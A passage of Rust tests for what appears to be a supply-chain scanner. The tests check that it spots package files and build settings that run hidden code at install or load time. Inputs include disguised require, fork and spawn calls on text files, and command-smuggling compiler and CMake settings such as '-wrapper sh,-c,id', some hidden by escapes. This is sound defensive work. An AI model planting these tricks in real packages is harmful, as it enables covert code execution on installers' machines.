    fn literal_requires_are_paths_from_the_file() {
        assert_eq!(
            launched(
                "package/lib/util.js",
                "require('../docs/notes.txt');\nconst l = require( \"./LICENSE\" );\nrequire('../docs/notes.txt');\n"
            ),
            ["package/docs/notes.txt", "package/lib/LICENSE"]
        );
        // A package's name, a path above the archive, another language.
        assert!(launched("package/lib/util.js", "require('lodash/fp');").is_empty());
        assert!(launched("package/lib/util.js", "require('../../../x.txt');").is_empty());
        assert!(launched("package/README.md", "require('./notes.txt')").is_empty());
        assert!(launched("package/lib/util.ts", "require('./notes.txt')").is_empty());
    }

    /// Node's loader by another name loads as `require` does; each of
    /// these ran `docs/notes.txt` and was allowed before session 33.
    #[test]
    fn the_loader_under_another_name_is_followed() {
        for js in [
            "const load = require;\nload('../docs/notes.txt');",
            "const { createRequire } = require('module');\nconst r = createRequire(__filename);\nr('../docs/notes.txt');",
            "let r\nr = module.createRequire(import.meta.url)\nr( '../docs/notes.txt' )",
            "const r = require('node:module').createRequire(__filename);\nr('../docs/notes.txt');",
            "require('module').createRequire(__filename)('../docs/notes.txt');",
            "createRequire(new URL(import.meta.url))('../docs/notes.txt');",
        ] {
            assert_launches("package/lib/util.js", js, "package/docs/notes.txt");
        }
        // A name given a call's result, or a property, is no loader.
        for js in [
            "const m = require('m');\nm('../docs/notes.txt');",
            "module.exports = require;\nexports('../docs/notes.txt');",
            "const r = requireFrom;\nr('../docs/notes.txt');",
        ] {
            assert!(launched("package/lib/util.js", js).is_empty(), "{js}");
        }
    }

    /// Each of these ran string-padder's stealer from `docs/notes.txt` in
    /// is-number and was allowed before session 27.
    #[test]
    fn paths_built_from_literals_are_followed() {
        for js in [
            "require(__dirname + '/../docs/notes.txt');",
            "require(`../docs/notes.txt`);",
            "require(('../docs/notes.txt'));",
            "const path = require('path');\nrequire(path.join(__dirname, '..', 'docs', 'notes.txt'));",
            "require(\n  path.resolve(__dirname,\n    \"../docs/notes.txt\")\n);",
            "module.exports = debug ? require('./a.js') : require ( '../docs/notes.txt' );",
            "require(cond ? './b.js' : '../docs/notes.txt');",
        ] {
            let got = launched("package/lib/util.js", js);
            assert!(
                got.contains(&"package/docs/notes.txt".to_string()),
                "{js}: {got:?}"
            );
        }
        // Alternatives are not joined into one path.
        assert_eq!(
            launched(
                "package/lib/util.js",
                "require(cond ? './b.js' : '../docs/notes.txt');"
            ),
            ["package/lib/b.js", "package/docs/notes.txt"]
        );
        for js in [
            "myrequire('./notes.txt'); $require('./notes.txt'); x.required('./notes.txt');",
            "require(`${dir}`); require(name); require(')./notes.txt');",
            "const t = fs.readFileSync('./notes.txt');",
        ] {
            assert!(launched("package/lib/util.js", js).is_empty(), "{js}");
        }
    }

    /// A forked, worker or spawned file runs whatever its extension: paths
    /// from the file's folder, and from the package's root.
    #[test]
    fn files_node_forks_or_spawns_are_paths() {
        let has = |js: &str, want: &str| assert_launches("package/lib/util.js", js, want);
        has(
            "require('child_process').fork(__dirname + '/../docs/notes.txt');",
            "package/docs/notes.txt",
        );
        has(
            "cp.fork('./docs/notes.txt', [], {detached: true});",
            "package/docs/notes.txt",
        );
        has(
            "new Worker(path.join(__dirname, 'data', 'w.txt'));",
            "package/lib/data/w.txt",
        );
        has(
            "Module._load(__dirname + '/../docs/notes.txt');",
            "package/docs/notes.txt",
        );
        has(
            "spawn(process.execPath, [__dirname + '/../docs/notes.txt'], {stdio: 'ignore'}).unref();",
            "package/docs/notes.txt",
        );
        has("execSync('node docs/notes.txt');", "package/docs/notes.txt");
        has(
            "execFileSync('/usr/bin/env', ['node', '--no-warnings', 'docs/notes.txt']);",
            "package/docs/notes.txt",
        );
        has("exec('./docs/run.txt --quiet');", "package/docs/run.txt");
        has("execSync(`sh ${x} docs/run.txt`);", "package/docs/run.txt");
        // The path module loaded in the argument itself, and what
        // `cluster.fork()` runs (both allowed by the shipped gate before
        // session 40).
        has(
            "new Worker(require('path').join(__dirname, '..', 'docs', 'notes.txt'));",
            "package/docs/notes.txt",
        );
        has(
            "c.setupPrimary({ exec: __dirname + '/../docs/notes.txt' }); c.fork();",
            "package/docs/notes.txt",
        );
        has(
            "cluster.setupMaster({ exec: 'docs/notes.txt', silent: true });",
            "package/docs/notes.txt",
        );
    }

    /// A package's own file required by the package's name: Node finds it
    /// in the package's folder once installed (allowed by the shipped
    /// gate before session 40).
    #[test]
    fn own_files_required_by_the_package_name_are_paths() {
        let has = |js: &str, want: &str| assert_launches("package/lib/util.js", js, want);
        has(
            "require('is-number/docs/notes.txt');",
            "package/docs/notes.txt",
        );
        has("require('@acme/util/docs/a.md');", "package/docs/a.md");
        for (spec, rest) in [
            ("is-number/docs/notes.txt", Some("docs/notes.txt")),
            ("@acme/util/docs/a.md", Some("docs/a.md")),
            ("lodash", None),
            ("@acme/util", None),
            ("@acme/util/", None),
            ("lodash/fp", None),
            (")./notes.txt", None),
            ("@/docs/a.md", None),
            ("node:fs/promises", None),
            ("./docs/a.md", None),
            ("/etc/x", None),
        ] {
            assert_eq!(self_reference(spec), rest, "{spec}");
        }
    }

    #[test]
    fn files_python_runs_as_programs_are_paths() {
        let has = |py: &str, want: &str| assert_launches("pkg-1.0/pkg/__init__.py", py, want);
        has(
            "subprocess.Popen([sys.executable, 'docs/notes.txt'])",
            "pkg-1.0/docs/notes.txt",
        );
        has(
            "subprocess.run(\n    [sys.executable, os.path.join(HERE, 'data', 'x.csv')],\n    check=True,\n)",
            "pkg-1.0/pkg/data/x.csv",
        );
        has(
            "os.system('sh docs/install.txt &')",
            "pkg-1.0/docs/install.txt",
        );
        has(
            "os.system(rf'{sys.executable} docs/notes.txt')",
            "pkg-1.0/docs/notes.txt",
        );
        has(
            "runpy.run_path(os.path.join(os.path.dirname(__file__), 'notes.md'))",
            "pkg-1.0/pkg/notes.md",
        );
        // Tests run fixture scripts; only a package's own code counts.
        assert!(launched(
            "pkg-1.0/tests/test_cli.py",
            "subprocess.run([sys.executable, 'tests/data/x.txt'])"
        )
        .is_empty());
        // Not calls: a method named otherwise, a word inside another.
        assert!(launched("pkg-1.0/pkg/m.py", "x.rerun('docs/notes.txt')").is_empty());
        // A file given to a program as its data, or after `-m` or `-c`,
        // is not run (pynacl's and mock's real lines).
        for py in [
            "session.run(\"doc8\", \"README.rst\", \"docs/\", \"--ignore-path\", \"docs/_build/\")",
            "call(f'git commit -m \"Backports: {rev}\" lastsync.txt', shell=True, cwd=mock_repo)",
            "session.run(\"python\", \"-m\", \"readme_renderer\", \"README.rst\")",
            "subprocess.run([sys.executable, '-c', 'print(1)', 'docs/notes.txt'])",
            "asyncio.run(main('docs/notes.txt'))",
            "subprocess.run(rb'git add docs/notes.txt', shell=True)",
        ] {
            assert!(launched("pkg-1.0/noxfile.py", py).is_empty(), "{py}");
        }
    }

    /// Each of these ran `docs/notes.txt` through a name the file gave the
    /// path to, and was allowed before session 28.
    #[test]
    fn paths_held_in_names_the_file_assigns_are_followed() {
        let js = |code: &str| launched("package/lib/util.js", code);
        for code in [
            "const p = path.join(__dirname, '..', 'docs', 'notes.txt');\nrequire(p);",
            "let target;\ntarget = __dirname + '/../docs/notes.txt'\nmodule.exports = require(target)",
            "var a = './x.js', p = '../docs/notes.txt';\nrequire(p);",
            "const p = `../docs/notes.txt`; child_process.fork(p, [], { detached: true });",
            "function load(p = '../docs/notes.txt') { return require(p); }",
            "const script = path.join(__dirname, '..', 'docs', 'notes.txt');\nspawn(process.execPath, [script]);",
            "const cmd = 'node docs/notes.txt';\nexecSync(cmd);",
        ] {
            let got = js(code);
            assert!(
                got.contains(&"package/docs/notes.txt".to_string()),
                "{code}: {got:?}"
            );
        }
        let py = |code: &str| launched("pkg-1.0/pkg/__init__.py", code);
        for code in [
            "HERE = os.path.dirname(__file__)\nscript = os.path.join(HERE, '..', 'docs', 'notes.txt')\nsubprocess.Popen([sys.executable, script])",
            "p = os.path.join(os.path.dirname(__file__), '..', 'docs', 'notes.txt')\nrunpy.run_path(p)",
        ] {
            let got = py(code);
            assert!(
                got.contains(&"pkg-1.0/docs/notes.txt".to_string()),
                "{code}: {got:?}"
            );
        }
        // Not assignments to the name: comparisons, arrows, updates,
        // attributes, another name that ends the same; and a name never
        // assigned a literal path.
        for code in [
            "if (p == '../docs/notes.txt') {}\nrequire(p);",
            "const f = p => '../docs/notes.txt';\nrequire(p);",
            "p += '../docs/notes.txt';\nrequire(p);",
            "o.p = '../docs/notes.txt';\nrequire(p);",
            "const xp = '../docs/notes.txt';\nrequire(p);",
            "const p = pick(options);\nrequire(p);",
            "const p = '../docs/notes.txt';\nrequire(p.name);",
        ] {
            assert!(js(code).is_empty(), "{code}: {:?}", js(code));
        }
        // A file given to a program as its data stays its data.
        assert!(py("doc = 'docs/notes.txt'\nsubprocess.run(['doc8', doc])").is_empty());
    }

    /// A name assigned more often than [`MAX_HELD_VARIANTS`] times gives
    /// only that many readings of a call, and a file of many names and
    /// assignments is read in one pass (this would take minutes if each
    /// call searched the file).
    #[test]
    fn many_assignments_give_a_bounded_number_of_readings() {
        let mut code = String::new();
        for i in 0..10_000 {
            code.push_str(&format!(
                "p = './lib/m{i}.js';\nrequire(p);\nq{i} = './x{i}.js'; require(q{i});\n"
            ));
        }
        let got = launched("package/index.js", &code);
        // q{i}: one each; p: the first MAX_HELD_VARIANTS of its values.
        assert_eq!(got.len(), 10_000 + MAX_HELD_VARIANTS, "{}", got.len());
        assert!(got.contains(&"package/lib/m0.js".to_string()));
        assert!(got.contains(&"package/x9999.js".to_string()));
    }

    #[test]
    fn call_names_are_found_whole_and_longest() {
        // Whole names only, with spaces before the parenthesis allowed.
        let js = |code: &str| launched("package/index.js", code);
        assert_eq!(js("fork ('./docs/a.txt')"), ["package/docs/a.txt"]);
        assert!(js("refork('./docs/a.txt'); fork_('./docs/a.txt')").is_empty());
        let py = |code: &str| launched("p-1/p/m.py", code);
        assert_eq!(
            py("runpy.run_path('./a.txt')"),
            ["p-1/p/a.txt", "p-1/a.txt"]
        );
        assert!(py("rerun_path('./a.txt'); run_paths('./a.txt')").is_empty());
    }

    #[test]
    fn includes_from_searched_folders_are_names_to_match() {
        let names = |path: &str, text: &str| searched_includes(path, text.as_bytes());
        // `<…>` and `"…"` alike (a quoted name not beside the source is
        // looked up in the same folders), each once, without leading
        // `./` or `../`; only at a line's start, after blanks.
        assert_eq!(
            names(
                "pkg/src/ext.c",
                "#include <Python.h>\n  #  include <notes.txt>\n#include_next \"extra/notes.txt\"\n\
                 #import <..\\..\\docs\\a.json>\n#include \"./notes.txt\"\n#include <notes.txt>\n\
                 x = \"#include <b.txt>\";\n// #include <c.txt>\n#include <>\n#include <dir/>\n"
            ),
            ["docs/a.json", "extra/notes.txt", "notes.txt", "python.h"]
        );
        assert_eq!(
            names("pkg/src/m.pyx", "include \"Notes.txt\"\ncdef int x\n"),
            ["notes.txt"]
        );
        // Headers too; not a test tree's sources, not Rust's `include!`
        // (relative to its file alone), not other files.
        assert_eq!(
            names("pkg/include/m.hpp", "#include <notes.txt>\n"),
            ["notes.txt"]
        );
        assert!(names("pkg/tests/t.c", "#include <notes.txt>\n").is_empty());
        assert!(names("pkg/src/lib.rs", "include!(\"notes.txt\");\n").is_empty());
        // Rust's `include!(concat!(…))`: the literals given to `concat!`,
        // joined, without a leading `/`; not `env!`'s name.
        assert_eq!(
            names(
                "pkg/build.rs",
                "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/docs/\", \"Notes.txt\"));\n\
                 include!(concat!(env!(\"OUT_DIR\"), \"/gen.rs\"));\n"
            ),
            ["docs/notes.txt", "gen.rs"]
        );
        assert!(names("pkg/setup.py", "#include <notes.txt>\n").is_empty());
        // The beside-the-source reading takes no `<…>` name.
        assert_eq!(
            compiled_sources("pkg/src/ext.c", b"#include <notes.txt>\n#include \"a.h\"\n"),
            ["pkg/src/a.h", "pkg/a.h"]
        );
    }

    #[test]
    fn what_an_assembler_or_fortran_reads_by_name_is_matched() {
        let names = |path: &str, text: &str| searched_includes(path, text.as_bytes());
        let embedded = |path: &str, text: &str| embedded_includes(path, text.as_bytes());
        // Inline assembly, its quotes escaped: `.include` is more source,
        // `.incbin` and `#embed` are bytes.
        let c = "__asm__(\".include \\\"docs/Notes.txt\\\"\\n\");\n\
                 __asm__(\".incbin \\\"docs/logo.png\\\"\");\n\
                 static const char t[] = {\n#embed <table.dat>\n};\n\
                 x = \"#embed <y.dat>\";\n";
        assert_eq!(names("pkg/src/m.c", c), ["docs/notes.txt"]);
        assert_eq!(embedded("pkg/src/m.c", c), ["docs/logo.png", "table.dat"]);
        // An assembler's own files: GNU as's and NASM's directives, and
        // `#include` for a `.S` the C preprocessor reads first.
        let s = ".include \"macros.inc\"\n%include 'nasm.txt'\n#include <defs.txt>\n\
                 \tincbin \"blob.bin\"\n.incbin \"../data/x.bin\"\n";
        assert_eq!(
            names("pkg/src/a.S", s),
            ["defs.txt", "macros.inc", "nasm.txt"]
        );
        assert_eq!(embedded("pkg/src/a.S", s), ["blob.bin", "data/x.bin"]);
        // Rust: `.incbin` in `global_asm!`, and a file `global_asm!`
        // assembles; not `include_bytes!` or `include_str!` alone.
        let rs = "global_asm!(\".incbin \\\"docs/logo.png\\\"\");\n\
                  core::arch::global_asm!(include_str!(\"../docs/notes.txt\"), options(att_syntax));\n\
                  const T: &[u8] = include_bytes!(\"table.bin\");\n\
                  #![doc = include_str!(\"../README.md\")]\n";
        assert_eq!(names("pkg/src/lib.rs", rs), ["docs/notes.txt"]);
        assert_eq!(embedded("pkg/src/lib.rs", rs), ["docs/logo.png"]);
        // Fortran's `include` in any case, and `#include` for a `.F90`;
        // not a comment's word.
        assert_eq!(
            names(
                "pkg/src/m.F90",
                "      INCLUDE 'Notes.txt'\n  include \"b.inc\"\n#include \"c.h\"\n! include 'd.txt'\n"
            ),
            ["b.inc", "c.h", "notes.txt"]
        );
        assert_eq!(
            compiled_sources("pkg/src/m.f", b"      include 'notes.txt'\n"),
            ["pkg/src/notes.txt", "pkg/notes.txt"]
        );
        // Not a test tree's sources, a crate's examples, Cython, or files
        // a build does not compile.
        for (path, text) in [
            ("pkg/tests/t.s", ".incbin \"x.bin\"\n"),
            (
                "pkg/examples/e.rs",
                "global_asm!(\".incbin \\\"x.bin\\\"\");\n",
            ),
            ("pkg/src/m.pyx", "# .incbin \"x.bin\"\n"),
            ("pkg/Makefile", ".include \"x.mk\"\n.incbin \"x.bin\"\n"),
            ("pkg/docs/notes.txt", ".incbin \"x.bin\"\n"),
        ] {
            assert!(embedded(path, text).is_empty(), "{path}");
        }
        assert!(names("pkg/Makefile", ".include \"x.mk\"\n").is_empty());
        assert!(names("pkg/tests/t.s", ".include \"x.txt\"\n").is_empty());
    }

    /// maturin hands Cargo its `config` entries and rustc its
    /// `rustc-args` (session 51: a rustc wrapper or linker set there, or
    /// in a configuration file `config` names, ran at `pip install`).
    #[test]
    fn maturin_settings_that_run_programs_are_read() {
        let runs = |path: &str, tool: &str| {
            compiler_flags(path, format!("[tool.maturin]\n{tool}\n").as_bytes()).runs
        };
        for (tool, named) in [
            (
                "config = [\"build.rustc-wrapper='tests/bin/wrap'\"]",
                "maturin's `--config build.rustc-wrapper='tests/bin/wrap'`: Cargo's `build.rustc-wrapper = \"tests/bin/wrap\"` runs that program",
            ),
            (
                "config = [\"target.x86_64-unknown-linux-gnu.linker = 'tests/bin/cc'\"]",
                "Cargo's `target.x86_64-unknown-linux-gnu.linker = \"tests/bin/cc\"` runs that program to link",
            ),
            (
                "config = [\"env.CC='docs/cc'\"]",
                "Cargo's `[env]` sets `CC = \"docs/cc\"`",
            ),
            (
                "config = [\"docs/cargo.toml\"]",
                "maturin's `--config docs/cargo.toml` gives Cargo that configuration file",
            ),
            (
                "rustc-args = [\"-C\", \"linker=tests/bin/cc\"]",
                "maturin's `rustc-args` give rustc `-C linker=tests/bin/cc`, which runs that program to link",
            ),
            (
                "rustc-args = [\"-Clinker-plugin-lto=docs/p.so\"]",
                "`-C linker-plugin-lto=docs/p.so`, which has the linker load that file",
            ),
            (
                "rustc-args = [\"--codegen=linker=cc.sh\"]",
                "`-C linker=cc.sh`",
            ),
        ] {
            let found = runs("x-1/pyproject.toml", tool);
            assert_names_one(&found, named, tool);
        }
        // A key spelled with TOML's escapes is the same key.
        let found = compiler_flags(
            "x-1/pyproject.toml",
            b"[tool.\"matur\\u0069n\"]\nrustc-args = [\"-C\", \"linker=cc.sh\"]\n",
        )
        .runs;
        assert_names_one(&found, "`-C linker=cc.sh`", "");
        // A link argument's compiler flag is read as in rustflags.
        let found = runs(
            "x-1/pyproject.toml",
            "rustc-args = [\"-C\", \"link-arg=-specs=x.specs\"]",
        );
        assert!(
            found.iter().any(|f| f.contains("-specs=x.specs")),
            "{found:?}"
        );
        // What real packages set, and a manifest nothing builds by.
        for (path, tool) in [
            ("x-1/pyproject.toml", "profile = \"release\"\nrustc-args = [\"-C\", \"opt-level=3\", \"-Clinker-plugin-lto\", \"-C\", \"linker-plugin-lto=yes\"]\nconfig = [\"profile.release.lto=true\", \"net.git-fetch-with-cli=true\"]"),
            ("x-1/pyproject.toml", "features = [\"pyo3/extension-module\"]\nbindings = \"pyo3\""),
            ("x-1/sub/pyproject.toml", "config = [\"docs/cargo.toml\"]"),
            ("x-1/tests/pyproject.toml", "rustc-args = [\"-C\", \"linker=tests/bin/cc\"]"),
        ] {
            assert!(runs(path, tool).is_empty(), "{path}: {tool}");
        }
    }

    /// setuptools-rust hands Cargo `args` and `cargo-manifest-args`, rustc
    /// `rustc-flags`, and runs Cargo in `env` (session 51: each ran a
    /// shipped script at `pip install`, from `pyproject.toml` or
    /// `setup.py`).
    #[test]
    fn setuptools_rust_settings_that_run_programs_are_read() {
        let runs = |path: &str, text: &str| compiler_flags(path, text.as_bytes()).runs;
        let table = |entry: &str| {
            format!("[[tool.setuptools-rust.ext-modules]]\ntarget = \"x._x\"\n{entry}\n")
        };
        for (entry, named) in [
            (
                "args = [\"--config\", \"build.rustc-wrapper='tests/bin/wrap'\"]",
                "setuptools-rust's `--config build.rustc-wrapper='tests/bin/wrap'`: Cargo's `build.rustc-wrapper = \"tests/bin/wrap\"` runs that program",
            ),
            (
                "cargo-manifest-args = [\"--config=docs/c.toml\"]",
                "setuptools-rust's `--config docs/c.toml` gives Cargo that configuration file",
            ),
            (
                "rustc-flags = [\"-C\", \"linker=tests/bin/cc\"]",
                "setuptools-rust's `rustc-flags` give rustc `-C linker=tests/bin/cc`",
            ),
            (
                "env = {PATH = \"/usr/bin:/bin\", RUSTC_WRAPPER = \"tests/bin/wrap\"}",
                "setuptools-rust's environment for Cargo sets `RUSTC_WRAPPER=tests/bin/wrap`",
            ),
            ("env = {PATH = \"tests/bin:/usr/bin\"}", "`PATH=tests/bin:/usr/bin`"),
            ("env = {HOME = \"docs\"}", "`HOME=docs`"),
            ("env = {CARGO_HOME = \"/opt/cargo\"}", "`CARGO_HOME=/opt/cargo`"),
            ("env = {CC = \"tests/bin/cc\"}", "`CC=tests/bin/cc`"),
            (
                "env = {RUSTFLAGS = \"-C linker=tests/bin/cc\"}",
                "setuptools-rust's `RUSTFLAGS` give rustc `-C linker=tests/bin/cc`",
            ),
        ] {
            let found = runs("x-1/pyproject.toml", &table(entry));
            assert_names_one(&found, named, entry);
        }
        let found = runs(
            "x-1/pyproject.toml",
            "[[tool.\"setuptools-r\\u0075st\".ext-modules]]\nrustc-flags = [\"-C\", \"linker=cc.sh\"]\n",
        );
        assert_names_one(&found, "`-C linker=cc.sh`", "");
        let found = runs(
            "x-1/pyproject.toml",
            "[[tool.setuptools-rust.bins]]\ntarget = \"x\"\nargs = [\"--config\", \"target.x86_64-unknown-linux-gnu.linker='cc.sh'\"]\n",
        );
        assert_names_one(&found, "linker = \"cc.sh\"` runs that program to link", "");
        let setup = |call: &str| {
            runs(
                "x-1/setup.py",
                &format!("from setuptools import setup\nfrom setuptools_rust import RustExtension, RustBin\nsetup(rust_extensions=[{call}])\n"),
            )
        };
        for (call, named) in [
            (
                "RustExtension(\"x._x\", rustc_flags=[\"-C\", 'linker=tests/bin/cc'])",
                "setuptools-rust's `rustc_flags` give rustc `-C linker=tests/bin/cc`",
            ),
            (
                "RustExtension(\"x._x\", args=(\"--config\", \"build.rustc='tests/bin/rustc'\",))",
                "Cargo's `build.rustc = \"tests/bin/rustc\"`",
            ),
            (
                "RustExtension(\"x._x\",\n    env={\"PATH\": os.environ[\"PATH\"], 'RUSTC_WRAPPER': \"tests/bin/wrap\"})",
                "`RUSTC_WRAPPER=tests/bin/wrap`",
            ),
            (
                "RustExtension(\"x._x\", env={\"PATH\": \"tests/bin:\" + os.environ[\"PATH\"]})",
                "`PATH (computed)`",
            ),
            (
                "RustBin(\"x\", args=cargo_args)",
                "setuptools-rust's `args` is computed when the build runs",
            ),
            (
                "RustBin(\"x\", env={**os.environ, **extra})",
                "setuptools-rust's `env` for Cargo is computed when the build runs",
            ),
            (
                "RustExtension(\"x._x\", rustc_flags=[f\"-Clinker={cc}\"])",
                "`rustc_flags` is computed",
            ),
        ] {
            let found = setup(call);
            assert_names_one(&found, named, call);
        }
        // What runs nothing: bcrypt's table, options, quiet variables, a
        // keyword of another call, a fixture's manifest, a test's setup.py.
        for (path, text) in [
            ("x-1/pyproject.toml", table("path = \"src/_x/Cargo.toml\"\npy-limited-api = \"auto\"\nrust-version = \">=1.64.0\"")),
            ("x-1/pyproject.toml", table("args = [\"--locked\", \"--no-default-features\", \"--config\", \"profile.release.lto=true\"]\nrustc-flags = [\"-C\", \"opt-level=3\"]\nenv = {PATH = \"/usr/bin:/bin\", HOME = \"/root\", CARGO_PROFILE_RELEASE_LTO = \"true\", CC = \"gcc\", RUSTFLAGS = \"--cfg x\"}")),
            ("x-1/setup.py", "setup(rust_extensions=[RustExtension('x._x', args=['--locked'], cargo_manifest_args=('--frozen',), rustc_flags=[], env={'MACOSX_DEPLOYMENT_TARGET': '11.0'})])\nsubprocess.run(cmd, env=env, args=a)\n".to_string()),
            ("x-1/setup.py", "setup(rust_extensions=[RustExtension('x._x', py_limited_api=True)], cmdclass={'x': y(args=z)})\n".to_string()),
            ("x-1/setup.py", "RustExtension('x', env={'PATH': os.environ['PATH'], \"HOME\": os.environ.get(\"HOME\", \"\"), 'TMPDIR': os.getenv('TMPDIR')})\n".to_string()),
            ("x-1/sub/pyproject.toml", table("rustc-flags = [\"-C\", \"linker=cc.sh\"]")),
            ("x-1/tests/setup.py", "RustExtension('x', rustc_flags=flags)\n".to_string()),
        ] {
            assert!(runs(path, &text).is_empty(), "{path}: {text}: {:?}", runs(path, &text));
        }
    }

    #[test]
    fn compiler_flags_that_run_programs_or_compile_files_are_read() {
        let flags = |path: &str, text: &str| compiler_flags(path, text.as_bytes());
        let setup = "ext = Extension('m', ['m.c'], extra_compile_args=[\n    '-wrapper', 'sh,-c,touch x;exec \"$0\" \"$@\"',\n    '-include', 'docs/notes.txt', '-includeDocs/B.h', \"-imacros\", \"m.txt\",\n    '-Btests/bin/', '@docs/flags.txt', '-O2', '-Wl,-Bsymbolic'])\n";
        let f = flags("pkg/setup.py", setup);
        assert_eq!(
            f.runs,
            ["the compiler's `-wrapper sh,-c,touch x;exec ` runs each program the compiler starts (cc1, as, ld) through that command"]
        );
        assert_eq!(f.includes, ["docs/b.h", "docs/notes.txt", "m.txt"]);
        let named: Vec<(&str, bool)> = f
            .files
            .iter()
            .map(|(_, flag, o)| (flag.as_str(), *o))
            .collect();
        assert_eq!(
            named,
            [
                ("-Btests/bin/", false),
                ("-Bsymbolic", false),
                ("@docs/flags.txt", true)
            ]
        );
        // `-B`'s programs under the prefix, from the script's folder and
        // the root; `@FILE` from both.
        let (b, _, _) = &f.files[0];
        assert!(b.contains(&"pkg/tests/bin/as".to_string()), "{b:?}");
        assert!(b.contains(&"pkg/tests/bin/cc1".to_string()), "{b:?}");
        assert_eq!(f.files[2].0, ["pkg/docs/flags.txt"]);
        // `-specs`, in a CMake flag variable and a `cmake.args` definition.
        let cmake = flags(
            "pkg/CMakeLists.txt",
            "set(CMAKE_C_FLAGS \"${CMAKE_C_FLAGS} -specs=docs/gcc.specs\")\n",
        );
        assert_eq!(
            cmake.runs,
            ["the compiler's `-specs=docs/gcc.specs` reads a spec file, whose rules can make it run any program"]
        );
        let toml = flags(
            "pkg/pyproject.toml",
            "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_FLAGS=-wrapper sh,-c,id\"]\n",
        );
        assert_eq!(toml.runs.len(), 1, "{toml:?}");
        // A make recipe's `@` silences it; a decorator's name in a
        // manifest is a file only if shipped (resolved by the caller).
        let make = flags(
            "pkg/Makefile",
            "all:\n\t@echo building\n\t@$(CC) -o m m.c\n",
        );
        assert_eq!(make, CompilerFlags::default());
        // Not a test tree's build script, nor a file no build reads flags from.
        assert_eq!(flags("pkg/tests/setup.py", setup), CompilerFlags::default());
        assert_eq!(flags("pkg/m/util.py", setup), CompilerFlags::default());
        assert_eq!(flags("pkg/docs/notes.txt", setup), CompilerFlags::default());
    }

    /// A setting spelled as its tool decodes it: TOML's and JSON's escapes,
    /// Python's and Meson's escapes and string pieces, an environment
    /// variable set through `update` (session 51: a TOML-escaped launcher
    /// in scikit-build-core's `cmake.args`, a `\x77` in setuptools'
    /// `extra_compile_args` and `os.environ.update(CC=…)` each ran a
    /// command at `pip install`, allowed by the rules alone).
    #[test]
    fn escaped_spellings_of_build_settings_are_read() {
        assert_build_runs(
            &[
                ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_FLAGS=-\\u0077rapper sh,-c,id\"]\n", "the compiler's `-wrapper sh,-c,id`"),
                ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_COMPILER_LAUNCHE\\u0052=sh;-c;id\"]\n", "`CMAKE_C_COMPILER_LAUNCHER` runs `sh;-c;id`"),
                ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.define = {\"CMAKE_C_COMPILE\\u0052\" = \"tools/cc\"}\n", "`CMAKE_C_COMPILER` is set to `tools/cc`"),
                ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_FLAGS=-\\U00000077rapper sh,-c,id\"]\n", "the compiler's `-wrapper sh,-c,id`"),
                ("pkg/CMakePresets.json", "{\"configurePresets\": [{\"name\": \"d\", \"cacheVariables\": {\"CMAKE_C_COMPILER_LAUNCHE\\u0052\": \"sh;-c;id\"}}]}\n", "`CMAKE_C_COMPILER_LAUNCHER` runs `sh;-c;id`"),
                ("pkg/setup.py", "Extension('m', ['m.c'], extra_compile_args=['-\\x77rapper', 'sh,-c,id'])\n", "the compiler's `-wrapper sh,-c,id`"),
                ("pkg/setup.py", "Extension('m', ['m.c'], extra_compile_args=['-wrap' 'per', 'sh,-c,id'])\n", "`-wrapper sh,-c,id`"),
                ("pkg/meson.build", "add_project_arguments('-\\x77rapper', 'sh,-c,id', language: 'c')\n", "`-wrapper sh,-c,id`"),
                ("pkg/setup.py", "os.environ['C' 'C'] = 'tools/cc'\n", "the build's `CC` is set to `'tools/cc'`"),
                ("pkg/setup.py", "os.environ.update(CC='tools/cc')\n", "the build's `CC` is set to `'tools/cc'`"),
                ("pkg/setup.py", "os.environ.update({\"LDSHARED\": \"sh -c id\"})\n", "`LDSHARED` is set to `\"sh -c id\"`"),
                ("pkg/setup.py", "os.environ |= {'CXX': cxx}\n", "`CXX` is set to `cxx`"),
                ("pkg/setup.py", "env = os.environ\nenv['CC'] = 'tools/cc'\n", "the build's `CC` is set to `'tools/cc'`"),
                ("pkg/setup.py", "from os import path, environ as E\nE.update(CC='tools/cc')\n", "the build's `CC` is set to `'tools/cc'`"),
                ("pkg/setup.py", "os.environ.__setitem__('CC', 'tools/cc')\n", "the build's `CC` is set to `'tools/cc'`"),
            ],
            &[
                ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_FLAGS=-\\u004f2\"]\ncmake.define = {\"CMAKE_C_COMPILER_LAUNCHE\\u0052\" = \"ccache\"}\n"),
                ("pkg/setup.py", "os.environ.update({'CC': 'gcc'}, CFLAGS='-O2')\nos.environ.update(os.environ)\nos.environ['P' 'ATH'] = p\n"),
                ("pkg/setup.py", "os.environ |= {'CC': 'gcc'}\na, CC = 1, 2\n"),
                ("pkg/setup.py", "env = os.environ.copy()\nenv['CC'] = 'tools/cc'\ne = os.environ\ne['CC'] = 'gcc'\n"),
                ("pkg/setup.py", "x = '\\x41' + 'B'\nExtension('m', ['m.c'], extra_compile_args=['-O' '2'])\n"),
            ],
        );
        // An alias as long as its line, past what a pattern of the names
        // could compile to.
        let long = "e".repeat(1_000_000);
        let found = compiler_flags(
            "pkg/setup.py",
            format!("{long} = os.environ\n{long}['CC'] = 'tools/cc'\n").as_bytes(),
        )
        .runs;
        assert_names_one(
            &found,
            "the build's `CC` is set to `'tools/cc'`",
            "a long alias",
        );
        // Written once and decoded the same: named once.
        let found = compiler_flags(
            "pkg/pyproject.toml",
            b"[tool.scikit-build]\ncmake.args = [\"-DCMAKE_C_FLAGS=-wrapper sh,-c,id\"]\n",
        )
        .runs;
        assert_eq!(found.len(), 1, "{found:?}");
    }

    /// Each of `once` (path, text, shown): [`compiler_flags`] finds one
    /// program the build runs there, and says `shown`; each of `none`
    /// (path, text): none.
    fn assert_build_runs(once: &[(&str, &str, &str)], none: &[(&str, &str)]) {
        for (path, text, shown) in once {
            let found = compiler_flags(path, text.as_bytes()).runs;
            assert_eq!(found.len(), 1, "{text}: {found:?}");
            assert!(found[0].contains(shown), "{text}: {found:?}");
        }
        for (path, text) in none {
            let found = compiler_flags(path, text.as_bytes()).runs;
            assert!(found.is_empty(), "{path}: {text}: {found:?}");
        }
    }

    #[test]
